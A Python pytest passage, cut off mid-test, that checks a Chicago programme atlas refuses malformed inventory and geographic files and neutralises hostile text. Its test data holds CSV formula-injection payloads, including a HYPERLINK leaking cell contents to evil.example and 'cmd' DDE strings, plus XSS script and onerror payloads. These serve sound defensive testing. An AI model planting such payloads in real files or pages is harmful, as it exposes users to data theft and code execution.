"""Bad-input corpus: malformed inventory CSVs and raw files are refused, naming the file, row and column, and the
published database stays byte-for-byte as it was; unambiguous variants (encodings, date formats, a declared
projected CRS) are accepted with the right values; hostile text is neutralised in exports and escaped in the HTML
the pages render.

Inventory cases need no raw files: they start from a small inventory exported from the session database and go
through the Admin page's publish path (``core.serve.admin.publish`` → ``core.ingest.build.build``). Raw-file cases need the
real Chicago files (fixture ``raw_dir``) and run ``core.ingest.build.build`` on a folder where one file is corrupted; they
extend tests/test_build_errors.py, whose twelve cases are not repeated here.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import geopandas as gpd
import pandas as pd
import pytest
import shapely
from streamlit.testing.v1 import AppTest

import core.ingest.build
from core.base.errors import InputError
from core.base.markup import inert
from core.ingest import geojson_input
from core.ingest import raw_chicago as rc
from core.ingest.build import build
from core.ingest.inventory_schema import PROGRAMS
from core.ingest.quality import QualityLog
from core.ingest.reference import load_reference
from core.serve import admin, auth
from core.store import queries
from core.views import methods
from tests.conftest import REPO
from tests.download_spy import capture_downloads
from tests.test_pages import app_pages, run_page

N_PROGRAMMES = 20


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def published(tmp_path_factory, atlas_db) -> Path:
    """The published database every refused input must leave byte-for-byte unchanged."""
    out = tmp_path_factory.mktemp("published") / "atlas.duckdb"
    shutil.copy(atlas_db, out)
    return out


@pytest.fixture(scope="module")
def reference(published):
    """The reference data the published database was built from, read once: each case then costs only its check."""
    con = duckdb.connect(str(published), read_only=True)
    try:
        info = queries.build_info(con)
    finally:
        con.close()
    return load_reference(None, demo=info["data_kind"] == "demo")


@pytest.fixture
def cached_reference(reference, monkeypatch):
    """Builds in this test reuse the module's reference (a copy each time: build adds its inventory source)."""
    monkeypatch.setattr(core.ingest.build, "load_reference", lambda *a, **k: copy.deepcopy(reference))


@pytest.fixture(scope="module")
def inventory(published) -> dict[str, pd.DataFrame]:
    """A small valid inventory as text cells: the first programmes of the published one, with their grants and
    quarters, in the upload format."""
    con = duckdb.connect(str(published), read_only=True)
    try:
        inv = admin.published_inventory(con)
    finally:
        con.close()
    keep = sorted(inv["programs.csv"]["program_id"])[:N_PROGRAMMES]
    out = {}
    for name, frame in inv.items():
        frame = frame.loc[frame["program_id"].isin(keep)].reset_index(drop=True)
        out[name] = frame.astype("string").fillna("").astype(object)
    return out


def _bytes(inv: dict[str, pd.DataFrame]) -> dict[str, bytes]:
    return {name: frame.to_csv(index=False).encode("utf-8") for name, frame in inv.items()}


# ---------------------------------------------------------------------------------------------------------------
# Inventory edits. Rows are spreadsheet rows: the header is row 1, so frame index i is row i + 2.


Edit = Callable[[dict[str, pd.DataFrame]], dict[str, bytes]]


def cell(file: str, row: int, column: str, value: str) -> Edit:
    def edit(inv):
        inv[file].loc[row - 2, column] = value
        return _bytes(inv)
    return edit


def cells(file: str, changes: dict[tuple[int, str], str]) -> Edit:
    def edit(inv):
        for (row, column), value in changes.items():
            inv[file].loc[row - 2, column] = value
        return _bytes(inv)
    return edit


def rename(file: str, old: str, new: str) -> Edit:
    def edit(inv):
        inv[file] = inv[file].rename(columns={old: new})
        return _bytes(inv)
    return edit


def drop(file: str, column: str) -> Edit:
    def edit(inv):
        inv[file] = inv[file].drop(columns=column)
        return _bytes(inv)
    return edit


def replace(file: str, make: Callable[[bytes], bytes]) -> Edit:
    def edit(inv):
        out = _bytes(inv)
        out[file] = make(out[file])
        return out
    return edit


def copy_row(file: str, source: int, target: int, columns: list[str]) -> Edit:
    """Give row ``target`` the values row ``source`` has in ``columns`` (to make duplicate keys)."""
    def edit(inv):
        for c in columns:
            inv[file].loc[target - 2, c] = inv[file].loc[source - 2, c]
        return _bytes(inv)
    return edit


def outcome_row(inv: dict[str, pd.DataFrame]) -> int:
    """The first programme-quarter with an outcome measure and at least one pre/post pair."""
    p = inv["program_periods.csv"]
    ok = p["outcome_measure"].ne("") & pd.to_numeric(p["n_pre_post"], errors="coerce").ge(1)
    return int(ok.idxmax()) + 2


def mean_change_out_of_scale(inv):
    inv["program_periods.csv"].loc[outcome_row(inv) - 2, "mean_change"] = "999"
    return _bytes(inv)


def extra_cell(inv):
    lines = _bytes(inv)["programs.csv"].decode().splitlines()
    lines[3] += ",an extra cell"  # physical line 4 = row 4
    return {**_bytes(inv), "programs.csv": ("\n".join(lines) + "\n").encode()}


def short_row(inv):
    lines = _bytes(inv)["funding.csv"].decode().splitlines()
    lines[2] = ",".join(lines[2].split(",")[:4])  # row 3 stops after source_type
    return {**_bytes(inv), "funding.csv": ("\n".join(lines) + "\n").encode()}


def semicolons(inv):
    return {**_bytes(inv), "programs.csv": inv["programs.csv"].to_csv(index=False, sep=";").encode()}


@dataclass(frozen=True)
class Bad:
    id: str
    edit: Edit
    file: str
    row: int | Callable | None
    column: str | None
    words: str


P, F, Q = "programs.csv", "funding.csv", "program_periods.csv"
LIMIT = admin.MAX_UPLOAD_BYTES

BAD_INVENTORY = [
    # Missing, renamed and unknown columns.
    Bad("renamed-column", rename(P, "weekly_capacity", "Weekly capacity (places)"), P, 1, "weekly_capacity",
        "rename it to 'weekly_capacity'"),
    Bad("missing-column", drop(P, "languages"), P, 1, "languages", "required column is missing"),
    Bad("renamed-amount", rename(F, "amount", "amount_usd"), F, 1, "amount", "required column is missing"),
    Bad("unknown-column", replace(F, lambda b: b.replace(b"status\n", b"status,notes\n", 1)
                                  .replace(b"\n", b",\n").replace(b"status,notes,\n", b"status,notes\n", 1)),
        F, 1, "notes", "unknown column"),
    # Empty, header-only, binary, oversized, wrongly separated or ragged files.
    Bad("empty-file", replace(P, lambda b: b""), P, None, None, "is empty"),
    Bad("blank-file", replace(F, lambda b: b"\n  \n"), F, None, None, "is empty"),
    Bad("header-only", replace(P, lambda b: b.split(b"\n")[0] + b"\n"), P, None, None, "no data rows"),
    Bad("binary-xlsx", replace(P, lambda b: b"PK\x03\x04" + b"\x00" * 64), P, None, None, "not a text CSV"),
    Bad("over-size-limit", replace(P, lambda b: b + b" " * (LIMIT + 1 - len(b))), P, None, None, "over the limit"),
    Bad("semicolon-separated", semicolons, P, 1, None, "separated by ';'"),
    # The first value past the header's last column: one more than the columns programs.csv has.
    Bad("row-with-an-extra-cell", extra_cell, P, 4, f"column {len(PROGRAMS.columns) + 1}", "unquoted comma"),
    Bad("row-cut-short", short_row, F, 3, "funder_type", "has 4 values but the header has 10 columns"),
    # Duplicate ids and keys, and foreign keys that point to nothing.
    Bad("duplicate-program-id", copy_row(P, 3, 6, ["program_id"]), P, 6, "program_id", "already used on row 3"),
    Bad("duplicate-funding-id", copy_row(F, 2, 4, ["funding_id"]), F, 4, "funding_id", "already used on row 2"),
    Bad("duplicate-quarter", copy_row(Q, 4, 5, ["program_id", "period"]), Q, 5, "period", "already has a row"),
    Bad("grant-for-unknown-programme", cell(F, 3, "program_id", "P-GHOST"), F, 3, "program_id",
        "has no programme"),
    Bad("quarter-for-unknown-programme", cell(Q, 7, "program_id", "P-GHOST"), Q, 7, "program_id",
        "has no programme"),
    Bad("unknown-venue", cell(P, 4, "venue_id", "library:atlantis"), P, 4, "venue_id", "not a venue"),
    # Wrong types.
    Bad("text-for-number", cell(P, 5, "weekly_capacity", "twenty"), P, 5, "weekly_capacity", "must be a number"),
    Bad("fraction-for-count", cell(P, 2, "volunteer_count", "3.5"), P, 2, "volunteer_count", "whole number"),
    Bad("not-a-boolean", cell(P, 3, "step_free", "maybe"), P, 3, "step_free", "true or false"),
    Bad("unknown-type", cell(P, 2, "service_type", "therapy"), P, 2, "service_type", "unknown value"),
    Bad("language-code", cell(P, 2, "languages", "es"), P, 2, "languages", "looks like a language code"),
    Bad("bad-quarter", cell(Q, 2, "period", "2025-13"), Q, 2, "period", "calendar quarter"),
    Bad("required-blank", cell(F, 3, "status", ""), F, 3, "status", "a value is required"),
    # Negative or absurd amounts and capacities.
    Bad("negative-amount", cell(F, 2, "amount", "-5000"), F, 2, "amount", "must be > 0"),
    Bad("absurd-amount", cell(F, 3, "amount", "999999999"), F, 3, "amount", "≤ 10,000,000"),
    Bad("negative-capacity", cell(P, 2, "weekly_capacity", "-3"), P, 2, "weekly_capacity", "> 0"),
    Bad("absurd-capacity", cell(P, 3, "weekly_capacity", "250000"), P, 3, "weekly_capacity", "≤ 2,000"),
    Bad("negative-participants", cell(Q, 2, "participants", "-1"), Q, 2, "participants", "≥ 0"),
    Bad("sub-count-over-total", cell(Q, 3, "participants_65plus", "100001"), Q, 3, "participants_65plus", "≤"),
    Bad("outcome-beyond-its-scale", mean_change_out_of_scale, Q, outcome_row, "mean_change", "is outside ±"),
    # Dates: end before start, other formats that are ambiguous, spreadsheet serials, impossible years.
    Bad("programme-ends-before-start", cells(P, {(4, "start_date"): "2024-05-01", (4, "end_date"): "2024-04-30"}),
        P, 4, "end_date", "is before start_date 2024-05-01"),
    Bad("grant-ends-before-start", cells(F, {(5, "start_date"): "2025-06-01", (5, "end_date"): "2025-01-31"}),
        F, 5, "end_date", "is before start_date"),
    Bad("ambiguous-date", cell(P, 2, "start_date", "03/04/2025"), P, 2, "start_date", "ambiguous"),
    Bad("spreadsheet-serial-date", cell(F, 2, "start_date", "45123"), F, 2, "start_date", "spreadsheet date"),
    Bad("impossible-year", cell(F, 2, "start_date", "1850-01-01"), F, 2, "start_date", "between 1900 and 2100"),
    # Coordinates swapped, projected, outside the city or off the globe.
    Bad("swapped-coordinates", cells(P, {(3, "latitude"): "-87.6298", (3, "longitude"): "41.8781"}), P, 3,
        "latitude", "look swapped"),
    Bad("projected-coordinates", cells(P, {(4, "latitude"): "1900000", (4, "longitude"): "1165000"}), P, 4,
        "latitude", "looks projected"),
    Bad("outside-the-city", cells(P, {(5, "latitude"): "43.0389", (5, "longitude"): "-87.9065"}), P, 5,
        "latitude", "outside the city"),
    Bad("latitude-off-the-globe", cell(P, 2, "latitude", "95"), P, 2, "latitude", "between -90 and 90"),
]


@pytest.mark.parametrize("case", BAD_INVENTORY, ids=[c.id for c in BAD_INVENTORY])
def test_bad_inventory_is_refused_and_nothing_is_published(case, inventory, published, cached_reference,
                                                         jobs_in_process):
    files = case.edit(copy.deepcopy(inventory))
    before = _digest(published)
    grant = auth.sign_in(auth.AdminConfig(users={"owner": auth.hash_password("pw-for-tests", n=2**10)}),
                         "owner", "pw-for-tests", throttle=auth.Throttle())
    staged = None
    with pytest.raises(InputError) as info:
        # The Admin page's path: stage the upload (size and names), then publish, which rebuilds via build().
        staged = admin.stage_upload(files)
        admin.publish(grant, staged, published)
    admin.discard(staged)
    err = info.value
    row = case.row(inventory) if callable(case.row) else case.row
    assert (err.file, err.row, err.column) == (case.file, row, case.column), str(err)
    assert case.words in str(err)
    assert str(err).startswith(case.file)
    assert _digest(published) == before
    assert not list(published.parent.glob(".atlas-build-*")), "temporary build file left behind"


# ---------------------------------------------------------------------------------------------------------------
# Inventory variants whose meaning is unambiguous: accepted, with the values a person meant.


def _validate(files: dict[str, bytes], published: Path) -> dict[str, pd.DataFrame]:
    staged = admin.stage_upload(files)
    try:
        return admin.validate(staged, published)
    finally:
        admin.discard(staged)


def test_bom_crlf_and_loose_headers_are_read(inventory, published):
    files = _bytes(inventory)
    text = files[P].decode().replace("program_id,", "Program ID,", 1).replace("\n", "\r\n")
    files[P] = "\ufeff".encode() + text.encode() + b"\r\n\r\n"
    out = _validate(files, published)
    assert list(out["program"]["program_id"]) == list(inventory[P]["program_id"])


@pytest.mark.parametrize("encoding, name", [("cp1252", "Café “Dawn’s” Circle – Señora"),
                                            ("latin-1", "Peña de la Ñandú: café"),
                                            ("utf-16", "Café 咖啡 Circle")])
def test_other_encodings_are_read_exactly(inventory, published, encoding, name):
    inv = copy.deepcopy(inventory)
    inv[P].loc[0, "name"] = name
    files = _bytes(inv)
    # Other cells hold characters (the en dash of '18:00–19:30') that Latin-1 lacks; they may become '?'.
    files[P] = inv[P].to_csv(index=False).encode(encoding, errors="replace")
    out = _validate(files, published)
    assert out["program"].loc[0, "name"] == name


def test_unambiguous_date_formats_and_money_are_read(inventory, published):
    inv = copy.deepcopy(inventory)
    spellings = ["2019/09/01", "1 September 2019", "Sep 1, 2019", "2019-09-01T00:00:00Z", "01-Sep-2019"]
    for i, text in enumerate(spellings):
        inv[P].loc[i, "start_date"] = text
        inv[P].loc[i, "end_date"] = ""
    inv[F].loc[0, "amount"] = "$12,500"
    out = _validate(_bytes(inv), published)
    assert (out["program"]["start_date"].iloc[:len(spellings)] == pd.Timestamp("2019-09-01")).all()
    assert out["funding"].loc[0, "amount"] == 12500.0


# ---------------------------------------------------------------------------------------------------------------
# Hostile text: accepted as text, neutralised in every CSV export, escaped wherever HTML is rendered.

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
SCRIPTS = ["<script>alert('atlas')</script>", '<img src=x onerror="alert(1)">',
           "<a href=\"javascript:alert(1)\">Peer circle</a>"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, published, reference) -> Path:
    """The published inventory with its first programmes' names, organisations, places and funders replaced by
    formulas and HTML, built into its own database."""
    con = duckdb.connect(str(published), read_only=True)
    try:
        inv = admin.published_inventory(con)
    finally:
        con.close()
    for i, text in enumerate(FORMULAS + SCRIPTS):
        inv[P].loc[i, ["name", "organization_name", "location_name", "schedule_description"]] = text
        inv[F].loc[i, "funder"] = text
    directory = tmp_path_factory.mktemp("hostile-inventory")
    for name, frame in inv.items():
        (directory / name).write_bytes(frame.to_csv(index=False).encode("utf-8"))
    out = tmp_path_factory.mktemp("hostile") / "atlas.duckdb"
    mp = pytest.MonkeyPatch()
    mp.setattr(core.ingest.build, "load_reference", lambda *a, **k: copy.deepcopy(reference))
    try:
        build(out, None, directory)
    finally:
        mp.undo()
    return out


def _formula_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula: text starting with = + - @ tab or CR that is not a number."""
    bad = []
    for row in csv.reader(io.StringIO(data.decode("utf-8"))):
        for value in row:
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(value)
                except ValueError:
                    bad.append(value)
    return bad


def test_hostile_names_are_stored_as_given(hostile_db):
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        names = {r[0] for r in con.execute("SELECT name FROM program").fetchall()}
    finally:
        con.close()
    assert {t.strip() for t in FORMULAS + SCRIPTS} <= names


def test_every_table_download_neutralises_formulas_and_hides_small_counts(hostile_db):
    """Data & methods offers every table whole: what it hands over is safe to open and shows no count of 1-10."""
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        raw = {t: queries.table(con, t) for t in methods.export_tables()}
        downloads = {t: methods.table_csv(con, t) for t in methods.export_tables()}
    finally:
        con.close()
    assert _formula_cells(raw["program"].to_csv(index=False).encode()), "the corpus must hold live formulas"
    for table, data in downloads.items():
        assert _formula_cells(data) == [], table
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
        assert len(rows) == len(raw[table]), table
        for column in methods.PERSON_COUNTS.get(table, ([], {}))[0]:
            values = pd.to_numeric(pd.Series([r.get(column, "") for r in rows]), errors="coerce")
            assert not values.between(1, 10).any(), (table, column)
    # The inventory's people counts are published only where the pages protect them as a linked set: no table of
    # programme quarters, and no programme's volunteers (issue 13).
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        small = queries.table(con, "program_period")["participants_65plus"].between(1, 10)
        with pytest.raises(ValueError):
            methods.table_csv(con, "program_period")
    finally:
        con.close()
    assert small.any(), "the corpus must hold small counts to hide"
    assert "program_period" not in downloads
    assert "volunteer_count" not in downloads["program"].decode().splitlines()[0].split(",")
    text = downloads["program"].decode()
    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text


def test_map_tooltips_escape_html_names():
    from core.views import maps

    points = pd.DataFrame({"name": SCRIPTS, "lon": [-87.6] * 3, "lat": [41.8] * 3, "n": [1, 2, 3]})
    spec = maps.points_layer(points, "programmes", "#336699").to_json()
    areas = pd.DataFrame({"area_id": [1], "geometry_simplified": [json.dumps(shapely.geometry.mapping(
        shapely.box(-87.7, 41.8, -87.6, 41.9)))]})
    feats = json.dumps(maps.area_features(areas, ["#336699"], pd.DataFrame({"name": [SCRIPTS[1]]})))
    for text in (spec, feats):
        assert "<script" not in text and "<img" not in text and "<a href" not in text
    assert inert(SCRIPTS[0]) in spec and inert(SCRIPTS[1]) in feats  # escaped by core.base.markup.inert


# The corpus's tags, unescaped: live HTML taken from the data. Escaped text ('&lt;img src=x …&gt;') is harmless,
# and a page's own markup (the brief's map <img>) is not from the data.
LIVE_HTML = ("<script>alert(", "<img src=x", '<a href="javascript:')


def open_page(page: str) -> AppTest:
    """Run app.py, then the page, as a visitor would reach it; the Admin page with a signed-in owner."""
    if not page.endswith("admin.py"):
        return run_page(page)
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=180)
    at.secrets["admin"] = {"password_hash": auth.hash_password("pw-for-tests", n=2**10)}
    at.session_state[auth.GRANT_KEY] = auth.sign_in(auth.config_from_secrets(at.secrets), "", "pw-for-tests",
                                                    throttle=auth.Throttle())
    at.run()
    return at.switch_page(page).run()


@pytest.mark.parametrize("page", app_pages())
def test_pages_show_hostile_names_as_text_and_export_them_neutralised(page, hostile_db, monkeypatch):
    monkeypatch.setenv("ATLAS_DB", str(hostile_db))
    downloads = capture_downloads(monkeypatch)
    at = open_page(page)
    assert not at.exception, at.exception
    # Markdown, captions and st.html that may render HTML hold no live tag taken from the data.
    for element in [*at.markdown, *at.caption, *at.get("html")]:
        body = getattr(element, "value", None) or getattr(element.proto, "body", "")
        if getattr(element.proto, "allow_html", True) or element.type == "html":
            assert not any(tag in body for tag in LIVE_HTML), (page, body[:200])
    # Map tooltips render their fields as HTML: the layer data must carry escaped text only.
    for chart in at.get("deck_gl_json_chart"):
        spec = chart.proto.json
        assert not any(tag in spec for tag in LIVE_HTML), page
    # Every CSV a user can download is safe to open in a spreadsheet.
    csvs = [data for name, mime, data in downloads if name.endswith(".csv") or mime == "text/csv"]
    for data in csvs:
        assert _formula_cells(data if isinstance(data, bytes) else str(data).encode()) == [], page


# ---------------------------------------------------------------------------------------------------------------
# Raw files (real Chicago files beside the clone).

AREAS, TRACTS, CMAP = rc.F_AREAS, rc.F_TRACTS, rc.F_CMAP
UNINSURED, LANGUAGES, LIBRARIES = rc.F_UNINSURED, rc.F_LANGUAGES, rc.F_LIBRARIES
CHA_TRACTS, METRO, FQHC, PB, COOLING = rc.F_CHA_TRACTS, rc.F_METRO, rc.F_FQHC, rc.F_PB, rc.F_COOLING

# Each reader and the raw files it reads. A build in a case re-reads only the readers whose files the case changed
# (the others return what they returned for the untouched files), so a case costs one reader, not a whole build.
READERS = {"read_areas": [AREAS], "read_tracts": [TRACTS, CHA_TRACTS], "read_cmap": [CMAP],
           "read_cha_areas": [rc.F_CHA_AREAS], "read_suicide": [rc.F_SUICIDE], "read_uninsured": [UNINSURED],
           "read_bh_treatment": [rc.F_BH], "read_languages": [LANGUAGES], "read_venues": [LIBRARIES, COOLING],
           "read_service_sites": [METRO, FQHC, PB]}


@pytest.fixture(scope="module")
def reader_cache() -> dict:
    return {}


@pytest.fixture
def raw_copy(raw_dir, tmp_path, monkeypatch, reader_cache) -> Path:
    """A folder of links to the real raw files; a case replaces one of them with a corrupted copy."""
    out = tmp_path / "raw"
    out.mkdir()
    for f in raw_dir.iterdir():
        (out / f.name).symlink_to(f)
    for name, files in READERS.items():
        real = getattr(rc, name)

        def cached(raw, *args, _real=real, _name=name, _files=files):
            if not all((Path(raw) / f).is_symlink() for f in _files):
                return _real(raw, *args)
            if _name not in reader_cache:
                reader_cache[_name] = _real(raw, *args)
            return copy.deepcopy(reader_cache[_name])

        monkeypatch.setattr(rc, name, cached)
    return out


def _rewrite(raw: Path, name: str, data: bytes | str) -> None:
    (raw / name).unlink()
    (raw / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _text(raw: Path, name: str) -> str:
    return (raw / name).read_bytes().decode("utf-8-sig")


def _rows(text: str) -> list[dict[str, str]]:
    """Data rows keyed by header names without the spaces some exports leave around them ('NAME ')."""
    return [{k.strip(): v for k, v in row.items()} for row in csv.DictReader(io.StringIO(text))]


def _set_csv_cell(text: str, line_no: int, column: str, value: str) -> str:
    rows = list(csv.reader(io.StringIO(text)))
    rows[line_no - 1][[h.strip() for h in rows[0]].index(column)] = value
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _first_line(text: str, column: str, pick: Callable[[dict], bool]) -> int:
    """The 1-based physical line of the first data row for which ``pick(row)`` holds."""
    for i, row in enumerate(_rows(text), start=2):
        if pick(row):
            return i
    raise AssertionError("no such row")


def _geo_edit(edit: Callable[[dict], None]) -> Callable[[str], str]:
    def run(text: str) -> str:
        doc = json.loads(text)
        edit(doc)
        return json.dumps(doc)
    return run


def _swap_xy(doc: dict) -> None:
    for f in doc["features"]:
        f["geometry"] = shapely.geometry.mapping(shapely.transform(shapely.geometry.shape(f["geometry"]),
                                                                   lambda c: c[:, ::-1]))


def _reproject_undeclared(doc: dict) -> None:
    gdf = gpd.GeoDataFrame.from_features(doc["features"], crs=4326).to_crs(3435)
    doc["features"] = json.loads(gdf.to_json(drop_id=True))["features"]


def _feature(i: int, **changes) -> Callable[[dict], None]:
    def edit(doc):
        for k, v in changes.items():
            if k == "geometry":
                doc["features"][i]["geometry"] = v
            else:
                doc["features"][i]["properties"][k] = v
    return edit


def _bowtie_in_area(doc):
    doc["features"][6]["geometry"] = {"type": "MultiPolygon", "coordinates": [[[
        [-87.70, 41.80], [-87.60, 41.90], [-87.60, 41.80], [-87.70, 41.90], [-87.70, 41.80]]]]}


def _tract_in_wrong_area(doc):
    # Tract 1 lies in Rogers Park (area 1); area 70 (Ashburn) is on the far south side.
    doc["features"][0]["properties"]["commarea_n"] = "70" if doc["features"][0]["properties"]["commarea_n"] != "70" \
        else "1"


def _pb_bad_coordinates(text: str) -> str:
    doc = json.loads(text)
    i = next(i for i, p in enumerate(doc) if "mental_health" in (p.get("categories") or []) and any(
        loc.get("community_area_id") not in (None, "") for loc in p["locations"] or []))
    k = next(k for k, loc in enumerate(doc[i]["locations"]) if loc.get("community_area_id") not in (None, ""))
    doc[i]["locations"][k]["lat"] = "north"
    return json.dumps(doc)


def _pb_row(raw: Path) -> int:
    doc = json.loads(_text(raw, PB))
    return 1 + next(i for i, p in enumerate(doc) if "mental_health" in (p.get("categories") or []) and any(
        loc.get("community_area_id") not in (None, "") for loc in p["locations"] or []))


def _pb_no_locations(text: str) -> str:
    doc = json.loads(text)
    del doc[2]["locations"]
    return json.dumps(doc)


def _metro_mhc_line(raw: Path) -> int:
    return _first_line(_text(raw, METRO), "Name", lambda r: r["Name"].strip().endswith(" MHC"))


@dataclass(frozen=True)
class BadRaw:
    id: str
    file: str
    edit: Callable[[str], str] | None   # text in, text out; None: an oversized (sparse) file replaces it
    row: int | Callable | None
    column: str | None
    words: str


BAD_RAW = [
    BadRaw("areas-undeclared-projected", AREAS, _geo_edit(_reproject_undeclared), 1, "geometry", "look projected"),
    BadRaw("areas-swapped-lon-lat", AREAS, _geo_edit(_swap_xy), 1, "geometry", "look swapped"),
    BadRaw("areas-self-intersecting", AREAS, _geo_edit(_bowtie_in_area), 7, "geometry", "invalid polygon"),
    BadRaw("areas-point-not-polygon", AREAS, _geo_edit(_feature(3, geometry={"type": "Point",
                                                                           "coordinates": [-87.6, 41.8]})),
           4, "geometry", "expected a polygon"),
    BadRaw("areas-ring-of-two-points", AREAS, _geo_edit(_feature(7, geometry={"type": "Polygon", "coordinates": [
        [[-87.7, 41.8], [-87.6, 41.9]]]})), 8, "geometry", "could not read this feature's geometry"),
    BadRaw("areas-unknown-crs", AREAS, _geo_edit(lambda d: d.update(crs={"type": "name", "properties": {
        "name": "EPSG:999999"}})), None, "crs", "not known"),
    BadRaw("areas-duplicate-number", AREAS, lambda t: _geo_edit(_feature(5, area_numbe=json.loads(t)["features"][2][
        "properties"]["area_numbe"]))(t), 6, "area_numbe", "appears twice"),
    BadRaw("areas-renamed-property", AREAS, _geo_edit(lambda d: d["features"][0]["properties"].update(
        {"area_number": d["features"][0]["properties"].pop("area_numbe")})), 1, "area_numbe",
           "required property is missing"),
    BadRaw("areas-not-a-collection", AREAS, lambda t: json.dumps(json.loads(t)["features"][0]), None, None,
           "FeatureCollection"),
    BadRaw("tracts-swapped-lon-lat", TRACTS, _geo_edit(_swap_xy), 1, "geometry", "look swapped"),
    BadRaw("tract-in-the-wrong-area", TRACTS, _geo_edit(_tract_in_wrong_area), 1, "commarea_n",
           "does not touch the community area"),
    BadRaw("tract-geoid-malformed", TRACTS, _geo_edit(_feature(9, geoid10="1703101")), 10, "geoid10", "11 digits"),
    BadRaw("tract-population-negative", CHA_TRACTS, lambda t: _set_csv_cell(t, _first_line(
        t, "Layer", lambda r: r["Layer"] == "Census tract"), "Population", "-40"), lambda raw: _first_line(
        _text(raw, CHA_TRACTS), "Layer", lambda r: r["Layer"] == "Census tract"), "Population", "cannot be negative"),
    BadRaw("cmap-text-in-count", CMAP, lambda t: _set_csv_cell(t, 3, "TOT_POP", "lots"), 3, "TOT_POP",
           "expected a number"),
    BadRaw("uninsured-header-only", UNINSURED, lambda t: t.splitlines()[0] + "\n", None, None, "no data rows"),
    BadRaw("uninsured-more-than-population", UNINSURED, lambda t: _set_csv_cell(t, _first_line(
        t, "Layer", lambda r: r["Layer"] == "Community area"), "UNI_2016-2020", "99999999"), lambda raw: _first_line(
        _text(raw, UNINSURED), "Layer", lambda r: r["Layer"] == "Community area"), "UNI_2016-2020",
           "more uninsured residents than residents"),
    BadRaw("languages-negative-speakers", LANGUAGES, lambda t: _set_csv_cell(t, 4, "SPANISH", "-12"), 4, "SPANISH",
           "cannot be negative"),
    BadRaw("metro-latitude-not-a-number", METRO, lambda t: _set_csv_cell(t, _first_line(
        t, "Name", lambda r: r["Name"].strip().endswith(" MHC")), "Latitude", "forty-one"), _metro_mhc_line,
           "Latitude", "expected a number"),
    BadRaw("pb-location-without-coordinates", PB, _pb_bad_coordinates, _pb_row, "locations.lat/lng",
           "no usable coordinates"),
    BadRaw("pb-programme-without-locations", PB, _pb_no_locations, 3, "locations", "no locations list"),
    BadRaw("pb-over-size-limit", PB, None, None, None, "over the limit"),
    BadRaw("cooling-renamed-property", COOLING, _geo_edit(lambda d: d["features"][2]["properties"].update(
        {"type_of_site": d["features"][2]["properties"].pop("site_type")})), 3, "site_type",
           "required property is missing"),
]


@pytest.mark.parametrize("case", BAD_RAW, ids=[c.id for c in BAD_RAW])
def test_bad_raw_file_is_refused_and_nothing_is_published(case, raw_copy, published):
    raw = raw_copy
    if case.edit is None:
        (raw / case.file).unlink()
        with open(raw / case.file, "wb") as fh:
            fh.truncate(geojson_input.MAX_RAW_BYTES + 1)  # sparse: no 50 MB written to disk
    else:
        _rewrite(raw, case.file, case.edit(_text(raw, case.file)))
    row = case.row(raw) if callable(case.row) else case.row
    before = _digest(published)
    with pytest.raises(InputError) as info:
        build(published, raw, None)
    err = info.value
    assert (err.file, err.row, err.column) == (case.file, row, case.column), str(err)
    assert case.words in str(err)
    assert _digest(published) == before
    assert not list(published.parent.glob(".atlas-build-*")), "temporary build file left behind"


# Raw variants that are accepted: a declared projected CRS is reprojected; BOM and Windows-1252 are read; points
# swapped or outside the city are fixed or dropped and counted in the data-quality log (they come from public lists
# that the atlas does not own, unlike the inventory, where the same faults are refused).


def test_geojson_with_declared_projected_crs_is_reprojected(raw_copy):
    raw = raw_copy
    pristine = rc.read_areas(raw, QualityLog())
    doc = json.loads(_text(raw, AREAS))
    gdf = gpd.GeoDataFrame.from_features(doc["features"], crs=4326).to_crs(3435)
    projected = json.loads(gdf.to_json(drop_id=True))
    projected["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3435"}}
    assert abs(projected["features"][0]["geometry"]["coordinates"][0][0][0][0]) > 1000, "really projected"
    _rewrite(raw, AREAS, json.dumps(projected))
    areas = rc.read_areas(raw, QualityLog())
    assert list(areas["area_id"]) == list(pristine["area_id"])
    assert max(a.hausdorff_distance(b) for a, b in zip(areas.geometry, pristine.geometry)) < 1e-9


def test_bom_and_windows_1252_raw_csvs_are_read(raw_copy):
    raw = raw_copy
    q = QualityLog()
    areas = rc.read_areas(raw, q)
    ids = set(areas["area_id"])
    plain, _ = rc.read_cmap(raw, ids, QualityLog())
    _rewrite(raw, CMAP, "\ufeff".encode() + (raw_copy / CMAP).read_bytes())
    with_bom, _ = rc.read_cmap(raw, ids, QualityLog())
    pd.testing.assert_frame_equal(plain, with_bom)

    text = _text(raw, LIBRARIES)
    line = 2
    name = _rows(text)[0]["NAME"]
    _rewrite(raw, LIBRARIES, _set_csv_cell(text, line, "NAME", name + " – Children’s Room").encode("cp1252",
                                                                                               errors="replace"))
    venues = rc.read_venues(raw, areas, QualityLog())
    assert f"{name} – Children’s Room Library" in set(venues["name"])


def test_raw_points_swapped_or_outside_the_city_are_fixed_or_dropped_and_logged(raw_copy):
    raw = raw_copy
    areas = rc.read_areas(raw, QualityLog())
    before = rc.read_venues(raw, areas, QualityLog())
    text = _text(raw, LIBRARIES)
    rows = _rows(text)
    lat, lon = (float(x) for x in rows[0]["LOCATION"].strip("()").split(","))
    text = _set_csv_cell(text, 2, "LOCATION", f"({lon}, {lat})")        # swapped
    text = _set_csv_cell(text, 3, "LOCATION", "(43.0389, -87.9065)")     # Milwaukee
